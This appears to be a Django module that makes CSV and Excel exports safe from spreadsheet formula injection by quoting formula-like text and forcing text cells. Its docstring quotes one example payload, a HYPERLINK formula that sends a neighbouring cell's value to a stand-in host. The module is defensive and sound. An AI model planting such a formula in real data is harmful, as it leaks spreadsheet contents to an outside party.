"""Spreadsheet exports (CSV and Excel) that cannot carry a formula.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or line break, which
spreadsheets skip before looking for one) is evaluated as a formula when the file is opened: a
participant named ``=HYPERLINK("http://x.example/?leak="&A1,"klik")`` would become a live link
that sends the neighbouring cells away. Every export goes through this module (OWASP, "CSV
Injection"):

- **CSV**: such a text gets a leading single quote, and every field is quoted (doubled quotes
  inside), so a spreadsheet that splits on another separator (a comma file opened in Dutch Excel,
  which splits on ``;``) still sees one field that starts with the quote.
- **Excel**: text is written as a string cell, never a formula, with the "quote prefix" style
  Excel itself uses for text typed after an apostrophe, so it stays text when someone edits the
  cell; what a person reads is unchanged.

Numbers, and texts that are a plain number (``-3000,00``, a credit note's amount), stay numbers:
they are not a formula and a bookkeeper's spreadsheet must be able to add them up.
"""

import csv
import io
import re
from collections.abc import Iterable

from django.http import HttpResponse
from django_tables2.export import ExportMixin, TableExport

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def is_formula_like(value) -> bool:
    """Would a spreadsheet evaluate this text (rather than read a number or text)?"""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _PLAIN_NUMBER.fullmatch(value)
    )


def neutralise(value):
    """The value as a CSV field a spreadsheet reads as text: formula-like text gets a quote."""
    if is_formula_like(value):
        return "'" + value
    return value


def csv_writer(stream, *, delimiter: str = ","):
    """A ``csv.writer`` whose every row is neutralised and every field quoted."""
    return _SafeCsvWriter(stream, delimiter=delimiter)


class _SafeCsvWriter:
    def __init__(self, stream, *, delimiter: str):
        self._writer = csv.writer(
            stream, delimiter=delimiter, quoting=csv.QUOTE_ALL, lineterminator="\r\n"
        )

    def writerow(self, row: Iterable):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_response(*, filename: str, header: list, rows: Iterable, delimiter: str = ";"):
    """A CSV download for Dutch spreadsheet and bookkeeping software: UTF-8 with a BOM (so
    Excel reads it as UTF-8), ``;``-separated by default."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv_writer(response, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return response


def xlsx_bytes(*, title: str, header: list, rows: Iterable) -> bytes:
    """An Excel workbook with one sheet: a bold, frozen header and the rows, text as text."""
    return xlsx_workbook_bytes(sheets=[(title, header, rows)])


def xlsx_workbook_bytes(*, sheets: Iterable[tuple[str, list, Iterable]]) -> bytes:
    """An Excel workbook with a sheet per (title, header, rows), each as ``xlsx_bytes``'s."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    for title, header, sheet_rows in sheets:
        sheet = workbook.create_sheet(title=_sheet_title(title))
        sheet.freeze_panes = "A2"

        def cell(value, sheet=sheet, **style):
            if isinstance(value, str):
                # Control characters are invisible and not allowed in the file format.
                value = ILLEGAL_CHARACTERS_RE.sub("", value)
            result = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                result.data_type = "s"  # a text is never a formula, whatever it starts with
                if is_formula_like(value):
                    result.quotePrefix = True
            for name, setting in style.items():
                setattr(result, name, setting)
            return result

        rows = [list(row) for row in sheet_rows]
        # Columns as wide as their longest value (as tablib's export had them), within reason.
        for index, values in enumerate(zip(header, *rows, strict=False), start=1):
            widest = max((len(str(value)) for value in values if value is not None), default=0)
            sheet.column_dimensions[get_column_letter(index)].width = min(widest, 60) + 2
        sheet.append([cell(str(value), font=bold) for value in header])
        for row in rows:
            sheet.append([cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _sheet_title(title: str) -> str:
    return re.sub(r"[\\*?:/\[\]]", "-", str(title))[:31] or "Export"


class SafeTableExport(TableExport):
    """django-tables2's export, limited to CSV and Excel and written through this module."""

    FORMATS = {
        TableExport.CSV: TableExport.FORMATS[TableExport.CSV],
        TableExport.XLSX: TableExport.FORMATS[TableExport.XLSX],
    }

    @classmethod
    def is_valid_format(cls, export_format):
        # The parent checks its own list (tsv, json, ods, yaml, …): formats written without
        # this module's protection, some of them a 500 for want of a library.
        return export_format in cls.FORMATS

    def export(self):
        header = list(self.dataset.headers or [])
        rows = [list(row) for row in self.dataset]
        if self.format == self.XLSX:
            return xlsx_bytes(title=self.dataset.title or "", header=header, rows=rows)
        stream = io.StringIO()
        writer = csv_writer(stream)
        writer.writerow(header)
        writer.writerows(rows)
        return stream.getvalue()


class SafeExportMixin(ExportMixin):
    """``?_export=csv`` / ``?_export=xlsx`` on a table view, formula-safe (see the module).
    Every list with an export uses this mixin instead of django-tables2's ``ExportMixin``."""

    export_class = SafeTableExport
    export_formats = (TableExport.CSV, TableExport.XLSX)
